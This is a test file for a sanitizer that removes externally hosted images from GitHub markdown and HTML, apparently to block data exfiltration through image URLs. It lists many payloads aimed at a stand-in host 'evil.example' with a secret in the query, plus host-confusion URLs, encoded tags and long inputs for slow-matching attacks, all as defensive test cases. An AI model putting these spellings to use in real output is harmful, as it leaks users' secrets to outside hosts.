import { expect, test } from "bun:test";
import { withoutForeignImages } from "../../integrations/github/images.ts";

const EVIL = "https://evil.example/?q=secret";

test("no spelling of an external image remains an image", () => {
  const images = [
    `![](${EVIL})`,
    `![a](${EVIL} "title")`,
    `![a](<${EVIL}>)`,
    `![a[b]c](${EVIL})`,
    `![a\\](b)](${EVIL})`,
    `![\`]\`](${EVIL})`,
    `![a\nb](${EVIL})`,
    `#![a](${EVIL})`,
    `[![a](${EVIL})](https://github.com/a/b)`,
    `![a][1]\n\n[1]: ${EVIL}`,
    `![1][]\n\n[1]: ${EVIL}`,
    `![1]\n\n[1]: ${EVIL}`,
    "![a](https://github.com.evil.example/x)",
    "![a](https://github.com@evil.example/x)",
    "![a](https://evil.example/?https://github.com/)",
    "![a](//evil.example/x)",
    `![${"x".repeat(600)}](${EVIL})`,
  ];
  expect(images.filter((image) => withoutForeignImages(image).includes("!["))).toEqual([]);
  const tags = [
    `<img src="${EVIL}">`,
    `<IMG\nsrc='${EVIL}'/>`,
    "<img src=//evil.example/x>",
    "<img src=https:evil.example>",
    "<img src='&#47;&#47;evil.example'>",
    "<img src='/\\evil.example'>",
    `<img alt="${"x".repeat(3000)}" src="${EVIL}">`,
    `<picture><source srcset="${EVIL}"></picture>`,
    `<video src="${EVIL}"`,
  ];
  expect(tags.filter((tag) => /<(img|source|video)/i.test(withoutForeignImages(tag)))).toEqual([]);
});

test("links, GitHub's own images and other text are unchanged", () => {
  const texts = [
    `[a](${EVIL})`,
    "![shot](https://github.com/user-attachments/assets/1)",
    "![shot](https://raw.githubusercontent.com/a/b/main/c.png)",
    '<img src="docs/a.png" width="300">',
    "#![allow(dead_code)]\nfn main() {} // see [a](b)",
    "Wow![1] <imgs> a < img",
    "",
  ];
  expect(texts.map(withoutForeignImages)).toEqual(texts);
  expect(withoutForeignImages(`a ![b](${EVIL}) c`)).toBe(`a [b](${EVIL}) c`);
});

test("long texts take linear time", () => {
  for (const piece of ["![", "![a", "![](", "<img ", "![a](https://github.com/"]) {
    expect(withoutForeignImages(piece.repeat(40_000)).length).toBeGreaterThan(0);
  }
});
